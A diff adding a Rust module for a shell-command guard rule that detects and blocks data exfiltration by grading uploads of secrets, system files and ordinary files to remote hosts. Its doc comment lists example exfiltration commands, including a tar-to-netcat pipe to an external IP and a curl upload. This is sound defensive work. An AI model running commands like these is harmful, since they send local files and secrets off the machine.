@@ -1,0 +1,191 @@
+//! Data exfiltration.
+//!
+//! # What
+//!
+//! Uploads of files, of what programs print and of secret variables to any host but this one, and
+//! servers that offer local files to everybody. Copies of ordinary files with scp, rsync, git and
+//! the like, and plain form data typed in the command, are asked about.
+//!
+//! # Why
+//!
+//! What has left the machine cannot be had back.
+//!
+//! # Example
+//!
+//! ```text
+//! curl -T report.db https://files.example.net/
+//! tar cz src | nc 203.0.113.5 9001
+//! python3 -m http.server
+//! ```
+//!
+//! # Instead
+//!
+//! Use scp, rsync or git to a machine you know; bind servers to 127.0.0.1.
+
+use aegish_effects::{Act, Source, Stream, Taint, Value};
+use crate::action::Action;
+use crate::finding::{Findings, Rule};
+use crate::hosts::{HostClass, is_local_binding};
+use crate::paths::glob::Match;
+use crate::paths::{Extent, Place, ReadClass, WriteClass};
+use crate::table::kinds::data_exfiltration as kind;
+use crate::table::manuals;
+use crate::table::names::REMOTE_COPY;
+use crate::variables::{is_secret_name, is_telling_nothing};
+use crate::view::{View, show};
+
+pub(crate) const RULE: Rule = Rule {
+    id: "7",
+    name: "data-exfiltration",
+    title: "Data exfiltration",
+    summary: "Hands local files, output or secrets to another machine.",
+    action: Action::Block,
+    manual: manuals::DATA_EXFILTRATION,
+    kinds: kind::ALL,
+};
+
+pub(crate) fn check(view: &View<'_>, out: &mut Findings) {
+    match view.act() {
+        Some(Act::Send { to, what, taint }) if view.host != Some(HostClass::Loopback) => {
+            send(view, to, what, taint, out);
+        }
+        Some(Act::Serve { host, root }) if !is_local_binding(host) => {
+            out.add(&RULE, &kind::SERVED, Match::Must, || {
+                format!("offers {} to everybody who can reach this machine", show(root))
+            });
+        }
+        _ => {}
+    }
+}
+
+/// What a piece of content is worth.
+#[derive(PartialEq, Eq, PartialOrd, Ord)]
+enum Worth {
+    /// Text of the command, or something that tells nothing.
+    Nothing,
+    /// An ordinary file, or output of a program.
+    Local,
+    /// A file of the system.
+    System,
+    /// A secret.
+    Secret,
+}
+
+fn send(view: &View<'_>, to: &Value, what: &Stream, taint: &Taint, out: &mut Findings) {
+    let mut worth = Worth::Nothing;
+    let mut named: Option<&Source> = None;
+    let own = if let Stream::Literal(text) = what { text.taint() } else { taint };
+    for source in taint.sources().chain(own.sources()) {
+        let found = worth_of_source(source, view);
+        if found > worth {
+            worth = found;
+            named = Some(source);
+        }
+    }
+    if let Stream::File(path) = what {
+        let found = view.place.as_ref().map_or(Worth::Local, worth_of_place);
+        if found >= worth {
+            worth = found;
+            named = None;
+        }
+        file(view, to, path, &worth, named, out);
+        return;
+    }
+    let origin = || named.map_or_else(|| "data".to_owned(), describe);
+    match worth {
+        Worth::Secret => out.add(&RULE, &kind::SECRET, Match::Must, || {
+            format!("sends {} to {}", origin(), show(to))
+        }),
+        Worth::System => out.add(&RULE, &kind::SYSTEM_FILE, Match::Must, || {
+            format!("sends {} to {}", origin(), show(to))
+        }),
+        Worth::Local if copies(view) => out.add(&RULE, &kind::REMOTE_COPY, Match::Must, || {
+            format!("copies {} to {}", origin(), show(to))
+        }),
+        Worth::Local => out.add(&RULE, &kind::OUTPUT, Match::Must, || {
+            format!("sends {} to {}", origin(), show(to))
+        }),
+        Worth::Nothing if matches!(view.host, Some(HostClass::Private)) || copies(view) => {}
+        Worth::Nothing => out.add(&RULE, &kind::LITERAL, Match::Must, || {
+            format!("sends data given in the command to {}", show(to))
+        }),
+    }
+}
+
+fn file(view: &View<'_>, to: &Value, path: &Value, worth: &Worth, named: Option<&Source>, out: &mut Findings) {
+    let holds = || match view.classes().read {
+        Some(hit) => format!(", which holds {}", hit.holds),
+        None => String::new(),
+    };
+    let what = || match named {
+        Some(source) => format!("{} with {}", show(path), describe(source)),
+        None => format!("{}{}", show(path), holds()),
+    };
+    let wide = view.place.is_some_and(|place| place.extent >= Extent::Home);
+    match worth {
+        Worth::Secret => out.add(&RULE, &kind::SECRET, Match::Must, || {
+            format!("sends {} to {}", what(), show(to))
+        }),
+        Worth::System => out.add(&RULE, &kind::SYSTEM_FILE, Match::Must, || {
+            format!("sends {} to {}", what(), show(to))
+        }),
+        _ if copies(view) && !wide => out.add(&RULE, &kind::REMOTE_COPY, Match::Must, || {
+            format!("copies {} to {}", show(path), show(to))
+        }),
+        _ => out.add(&RULE, &kind::UPLOAD, Match::Must, || {
+            format!("uploads {} to {}", show(path), show(to))
+        }),
+    }
+}
+
+fn copies(view: &View<'_>) -> bool {
+    view.program().is_some_and(|program| REMOTE_COPY.binary_search(&program).is_ok())
+}
+
+fn worth_of_source(source: &Source, view: &View<'_>) -> Worth {
+    match source {
+        Source::File(path) => match Place::of(&Value::known(path.as_str()), view.setting) {
+            Some(place) => worth_of_place(&place),
+            None => Worth::Local,
+        },
+        Source::Environment(name) if is_secret_name(name) => Worth::Secret,
+        _ if is_telling_nothing(source) => Worth::Nothing,
+        _ => Worth::Local,
+    }
+}
+
+fn worth_of_place(place: &Place) -> Worth {
+    match place.read_class() {
+        Some(ReadClass::Ordinary) | None => {}
+        Some(ReadClass::AccountList | ReadClass::LoginRecord) => return Worth::System,
+        Some(_) => return Worth::Secret,
+    }
+    if place.classes.tree.is_some() || (place.extent == Extent::Home && !place.in_home) {
+        return Worth::Secret;
+    }
+    match place.write_class() {
+        Some(
+            WriteClass::System
+            | WriteClass::State
+            | WriteClass::Log
+            | WriteClass::Boot
+            | WriteClass::Schedule
+            | WriteClass::Authentication
+            | WriteClass::Loader
+            | WriteClass::Protection
+            | WriteClass::Kernel
+            | WriteClass::KeyStore,
+        ) if !place.in_cwd => Worth::System,
+        _ => Worth::Local,
+    }
+}
+
+fn describe(source: &Source) -> String {
+    match source {
+        Source::File(path) => format!("the content of {}", crate::view::show_text(path)),
+        Source::Program(name) => format!("the output of {}", crate::view::show_text(name)),
+        Source::Environment(name) => format!("the variable {name}"),
+        Source::Network(origin) => format!("what came from {}", crate::view::show_text(origin)),
+        Source::Terminal => "what is typed".to_owned(),
+    }
+}
